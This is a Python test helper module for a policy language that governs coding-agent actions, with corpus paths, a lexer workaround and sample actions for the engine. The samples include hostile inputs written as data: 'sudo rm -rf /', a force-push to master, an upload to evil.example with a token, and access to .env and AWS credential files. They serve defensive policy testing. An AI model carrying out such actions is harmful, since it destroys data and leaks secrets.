"""Shared helpers of the policy-language tests: the corpora, sample actions, and workarounds.

Layout of ``tests/lang``:

- ``neg_<code>.policy`` + ``neg_<code>.expected.json``: one must-fail (or must-warn) policy per
  diagnostic code (``test_negative.py``); ``neg_support/`` holds modules they import.
- ``cases/*.policy``: realistic policies for coding agents that must check clean and pass their
  own tests (``test_corpus.py``, ``test_roundtrip.py``); they import each other.
- ``fmt/NAME.input.policy`` → ``fmt/NAME.expected.policy``: the formatter corpus (``test_fmt.py``).
"""

from __future__ import annotations

import dataclasses
from pathlib import Path
from typing import Any

from policyc.action.model import Action, parse_action
from policyc.engine.ir import Rule
from policyc.engine.program import Program
from policyc.lang import parser as lang_parser
from policyc.lang.ast import Module
from policyc.lang.checker import CheckResult, check_paths
from policyc.lang.diagnostics import Diagnostic
from policyc.lang.parser import parse_module
from policyc.normalize import action_facts

LANG_DIR = Path(__file__).parent
CASES_DIR = LANG_DIR / "cases"
FMT_DIR = LANG_DIR / "fmt"
NEG_SUPPORT_DIR = LANG_DIR / "neg_support"

CORPUS = sorted(CASES_DIR.glob("*.policy"))
CORPUS_IDS = [p.stem for p in CORPUS]


def read(path: Path) -> str:
    with open(path, encoding="utf-8", newline="") as fh:
        return fh.read()


def check_case(path: Path) -> CheckResult:
    """A corpus file checked as the entry of its own policy set (its imports come along)."""
    return check_paths([path])


# ---------------------------------------------------------------------------------------------
# parsing with comments
#
# BUG (reported in test_fmt.py::test_comments_survive_a_second_parse): the parser's lark lexer is
# cached with the COMMENT callback of the *first* parse of the process, so every later
# parse_module() returns no comments. The formatter tests need the comments of every file, so
# they make the cached parser rebuild its lexer's scanner (which picks up the current callback).


def _reset_lexer() -> None:
    lexer = getattr(getattr(lang_parser._parser(), "parser", None), "lexer", None)
    if lexer is not None and hasattr(lexer, "_scanner"):
        lexer._scanner = None
    else:  # another lark version: build a whole new parser
        lang_parser._parser.cache_clear()


def fresh_parse(text: str, file: str = "<policy>") -> tuple[Module | None, list[Diagnostic]]:
    """parse_module() with the comments of this text (see the bug above)."""
    _reset_lexer()
    return parse_module(text, file)


# ---------------------------------------------------------------------------------------------
# actions


def corpus_test_actions() -> list[dict[str, Any]]:
    """The action of every test block in the corpus."""
    out: list[dict[str, Any]] = []
    for path in CORPUS:
        module, diagnostics = parse_module(read(path), str(path))
        assert module is not None and not diagnostics, diagnostics
        for item in module.items:
            action = getattr(item, "action", None)
            if isinstance(action, dict):
                out.append(action)
    return out


EXTRA_ACTIONS: list[dict[str, Any]] = [
    {"action_type": "file.read", "resource": {"path": "/repo/README.md"}},
    {"action_type": "file.list", "resource": {"path": "/repo/.env"}},
    {"action_type": "file.read", "resource": {"path": "/repo/.env.sample"}},
    {"action_type": "file.read", "resource": {"path": "/repo/.env"}, "approval": {"granted": True}},
    {"action_type": "file.write", "resource": {"path": "/repo/.aws/credentials"}},
    {"action_type": "file.read", "resource": {"path": "relative/.env"}},  # unresolved
    {"action_type": "file.delete", "resource": {"path": "/repo/.git/hooks/x"}},
    {"action_type": "file.write", "workspace": "/repo", "resource": {"path": "/repo/a.so"}},
    {
        "action_type": "shell.exec",
        "command": "sudo rm -rf /",
        "environment": "production",
        "branch": "main",
        "session": {"recent_denials": 12, "actions": 900, "alerts": 3},
    },
    {"action_type": "shell.exec", "command": "git push --force", "branch": "master"},
    {"action_type": "shell.exec", "command": "x" * 2100},
    {
        "action_type": "http.request",
        "method": "PUT",
        "url": "http://evil.example/upload?token=1",
        "data_classification": "restricted",
        "risk_signals": ["exfiltration", "pii.email", "prompt_injection"],
    },
    {
        "action_type": "tool.call",
        "tool": {
            "name": "mcp__github__create_pull_request",
            "server": "search",
            "input": {"base": "master", "title": "t", "limit": 2000, "mode": "write"},
        },
    },
    {
        "action_type": "agent.spawn",
        "tool": {"name": "spawn", "input": {"model": "large", "depth": 7}},
        "session": {"terminated": True},
    },
    {
        "action_type": "db.query",
        "environment": "production",
        "payload": "UPDATE t SET x = 1",
        "permissions": ["db:write"],
    },
]


def sample_actions() -> list[Action]:
    return [parse_action(a, trusted=True) for a in corpus_test_actions() + EXTRA_ACTIONS]


def model_of(program: Program, action: Action) -> dict[str, set[tuple[Any, ...]]]:
    """The non-empty relations of the model of ``program`` on the facts of ``action``."""
    facts = program.evaluate(action_facts(action)).facts
    return {p: rows for p, rows in facts.items() if rows}


# ---------------------------------------------------------------------------------------------
# programs modulo positions

_SOURCE_KEYS = ("source",)


def strip_rule(rule: Rule) -> Rule:
    """A rule without where it came from (terms already compare without their positions)."""
    return dataclasses.replace(
        rule,
        source=None,
        position=None,
        annotations=tuple(a for a in rule.annotations if a[0] not in _SOURCE_KEYS),
    )


def stripped_rules(program: Program) -> list[Rule]:
    return [strip_rule(r) for r in program.rules]
